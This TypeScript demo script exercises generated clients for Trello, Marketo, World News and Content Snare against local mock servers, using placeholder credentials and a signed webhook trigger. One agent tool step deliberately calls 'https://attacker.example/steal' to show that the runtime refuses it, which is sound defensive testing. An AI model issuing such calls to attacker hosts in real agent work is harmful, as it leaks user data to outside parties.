/**
 * `make demo`: the four integrations working against their behavioural mocks on 127.0.0.1, with
 * made-up credentials: typed clients, an agent tool step (and a refused hostile one), and a
 * Trello trigger fed by a signed webhook delivery. No network, no real accounts.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { ContentsnareClient } from "../generated/contentsnare/index.js";
import { MarketoClient } from "../generated/marketo/index.js";
import { TrelloClient, tools as trelloTools, triggers } from "../generated/trello/index.js";
import { WorldnewsClient } from "../generated/worldnews/index.js";
import { startMock, type MockOptions, type RunningMock } from "../runtime/mock/index.js";
// Each generated mock registers itself when imported, so startMock("<id>") finds it.
import "../generated/contentsnare/mock.js";
import "../generated/marketo/mock.js";
import "../generated/trello/mock.js";
import "../generated/worldnews/mock.js";
import { executeToolByName } from "../runtime/tools/index.js";
import {
  createTriggerRouter,
  createWebhookReceiver,
  ensureWebhook,
  type TriggerEvent,
} from "../runtime/triggers/index.js";

const running: Array<{ close(): Promise<void> }> = [];
const show = (label: string, value: unknown) =>
  console.log(`  ${label.padEnd(22)} ${JSON.stringify(value).slice(0, 150)}`);
const WEBHOOK_SECRET = "demo-app-secret";

/** Awaits one call and shows the part of its answer that tells what it did. */
async function showCall<T>(label: string, call: Promise<T>, pick: (answer: T) => unknown): Promise<void> {
  show(label, pick(await call));
}

async function mock(service: string, options: MockOptions = {}): Promise<RunningMock> {
  const m = await startMock(service, options);
  running.push(m);
  return m;
}

/**
 * The demo connection's made-up fields, by service: each mock accepts the default credentials its
 * spec declares (x-stepforge.mock.credentials).
 */
const FIELDS = {
  trello: { apiKey: "0123456789abcdef0123456789abcdef", token: "ATTAmocktoken0123456789abcdef0123456789abcdef" },
  marketo: {
    endpoint: "https://123-ABC-456.mktorest.com/rest",
    clientId: "5a8e6a0d-3c1f-4b8e-9d2a-7f4c1e0b9a61",
    clientSecret: "mock-client-secret-0123456789abcdef",
  },
  worldnews: { apiKey: "mock-worldnews-api-key-0123456789" },
  contentsnare: {
    clientId: "mock-client-id",
    clientSecret: "mock-client-secret",
    accessToken: "mock-access-token",
    refreshToken: "mock-refresh-token",
  },
} satisfies Record<string, Record<string, string>>;

/** Starts a service's mock; options for its client: the demo connection, sent to the mock. */
async function againstMock(service: Exclude<keyof typeof FIELDS, "trello">) {
  return { connection: { name: "demo", fields: FIELDS[service] }, baseUrl: (await mock(service)).url };
}

try {
  console.log("Trello — behavioural mock, key + token");
  const trelloMock = await mock("trello", { webhooks: { secret: WEBHOOK_SECRET } });
  const trelloFields = FIELDS.trello;
  const trello = new TrelloClient({ connection: { name: "demo", fields: trelloFields }, baseUrl: trelloMock.url });
  const [board] = await trello.getMemberBoards({ params: { path: { id: "me" } } });
  // Lists come back in board order (by `pos`): To Do, Doing, Done.
  const lists = await trello.getBoardLists({ params: { path: { id: board!.id } } });
  show(
    "getBoardLists",
    lists.map((l) => l.name),
  );
  const todo = lists.find((l) => l.name === "To Do") ?? lists[0];
  const done = lists.find((l) => l.name === "Done") ?? lists.at(-1);

  // A trigger: register the webhook (the mock probes our receiver with HEAD), then watch moves.
  const events: TriggerEvent[] = [];
  const moves = { trigger: "trello_card_moved", connection: "demo", scope: { board: [board!.id] } };
  const router = createTriggerRouter(triggers, [moves]);
  const server = createServer((req, res) => receiver.nodeHandler(req, res));
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  running.push({ close: () => new Promise<void>((r) => server.close(() => r())) });
  const callbackUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/hooks/trello`;
  const receiver = createWebhookReceiver({
    secret: WEBHOOK_SECRET,
    callbackUrl,
    delivery: triggers.delivery,
    onDelivery: (p) => void events.push(...router.route(p)),
  });
  await ensureWebhook(triggers.delivery, (id, init) => trello.core.call(id, init), {
    modelId: board!.id,
    callbackUrl,
    connectionFields: trelloFields,
  });

  const card = await trello.createCard({ body: { idList: todo!.id, name: "Write the quarterly report", pos: "top" } });
  show("createCard", { id: card.id, name: card.name });
  const listCards = await trello.getListCards({ params: { path: { id: todo!.id } } });
  show("getListCards", listCards.map((c) => c.name).slice(0, 3));

  // The same thing an agent does: a tool step, validated, executed, answered with a result object.
  const context = { connection: { name: "demo", fields: trelloFields }, baseUrl: trelloMock.url };
  const moved = await executeToolByName(trelloTools, "trello_update_card", { id: card.id, idList: done!.id }, context);
  const landed = moved.ok ? lists.find((l) => l.id === (moved.data as { idList?: string }).idList)?.name : undefined;
  show("tool update_card", moved.ok ? { ok: true, movedTo: landed } : moved);
  if (landed !== "Done") throw new Error(`demo: the card should have moved to Done, it is in ${landed ?? "no list"}`);
  const wrong = await executeToolByName(trelloTools, "trello_create_card", { name: 42 }, context);
  show("tool bad input", wrong.ok ? wrong : { kind: wrong.error.kind, fields: wrong.error.fields });
  const hostile = await executeToolByName(
    trelloTools,
    "trello_api_call",
    { method: "GET", endpoint: "https://attacker.example/steal", query_parameters: null, body: null },
    context,
  );
  show(
    "tool hostile path",
    hostile.ok ? hostile : { kind: hostile.error.kind, message: hostile.error.message.slice(0, 80) },
  );
  for (let i = 0; i < 50 && events.length === 0; i++) await new Promise((r) => setTimeout(r, 10));
  show(
    "trigger card_moved",
    events.map((e) => ({ card: e.refs.card?.id, to: e.refs.list?.id })),
  );

  console.log("Marketo — OAuth client credentials, token issued by the mock's identity endpoint");
  const marketo = new MarketoClient(await againstMock("marketo"));
  const ada = { email: "ada@example.com", firstName: "Ada" };
  await showCall(
    "syncLeads",
    marketo.syncLeads({ body: { action: "createOrUpdate", lookupField: "email", input: [ada] } }),
    (synced) => synced.result,
  );
  await showCall(
    "getLeads",
    marketo.getLeads({ params: { query: { filterType: "email", filterValues: [ada.email] } } }),
    (leads) => leads.result?.map((l) => ({ id: l.id, email: l.email })),
  );

  console.log("World News API — API key");
  const news = new WorldnewsClient(await againstMock("worldnews"));
  await showCall(
    "searchNews",
    news.searchNews({ params: { query: { text: "electric", language: "en", number: 2 } } }),
    (found) => found.news?.map((a) => a.title),
  );

  console.log("Content Snare — OAuth authorization code (bearer)");
  const snare = new ContentsnareClient(await againstMock("contentsnare"));
  await showCall(
    "createClient",
    snare.createClient({ body: { email: "jo@example.com", full_name: "Jo Bloggs" } }),
    (client) => ({ id: client.id, email: client.email }),
  );
  await showCall("listClients", snare.listClients(), (clients) => clients.results?.map((c) => c.email).slice(0, 3));
} finally {
  await Promise.all(running.map((r) => r.close()));
}
